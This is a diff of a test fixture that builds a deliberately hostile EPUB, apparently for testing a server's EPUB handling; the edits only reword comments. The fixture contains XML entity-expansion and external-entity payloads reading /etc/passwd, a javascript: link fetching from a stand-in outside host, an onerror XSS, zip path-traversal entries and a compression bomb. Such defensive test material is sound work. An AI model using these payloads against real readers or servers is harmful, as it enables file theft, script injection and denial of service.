@@ -3,7 +3,7 @@ import { writeZip } from '#server/epub/zip-writer.ts'
 const outside = 'http://outside.test'
 const shout = "top.shouted=1;fetch('http://outside.test/script')"
 
-/** Everything a book could try, in one chapter. */
+/** A chapter with every attack that a book can contain. */
 const chapter = `<?xml version="1.0" encoding="utf-8"?>
 <!DOCTYPE html [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY file SYSTEM "file:///etc/passwd">]>
 <html xmlns="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink">
@@ -50,7 +50,10 @@ const opf = `<?xml version="1.0"?><!DOCTYPE package [<!ENTITY lol "哈"><!ENTITY
 const nav = `<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><body><nav epub:type="toc"><ol>
 <li><a href="javascript:${shout}">坏</a></li><li><a href="text/one.xhtml">使坏 &lt;img src=x onerror=alert(1)&gt;</a></li></ol></nav></body></html>`
 
-/** An EPUB that tries to run, to ask outside, to climb out and to swell. */
+/**
+ * Returns an EPUB that tries to run scripts, send requests, refer to files outside the book, and decompress to a huge
+ * size.
+ */
 export function hostileEpub(): Buffer {
   const text = (name: string, content: string) => ({ name, data: Buffer.from(content) })
   return writeZip([
@@ -67,7 +70,7 @@ export function hostileEpub(): Buffer {
     ),
     text('../../escaped.xhtml', chapter),
     text('/etc/absolute.xhtml', chapter),
-    // Sixteen megabytes of nothing.
+    // The style sheet has sixteen megabytes of spaces, which compress to almost nothing.
     { name: 'b/bomb.css', data: Buffer.alloc(16 * 1024 * 1024, 32) },
   ])
 }
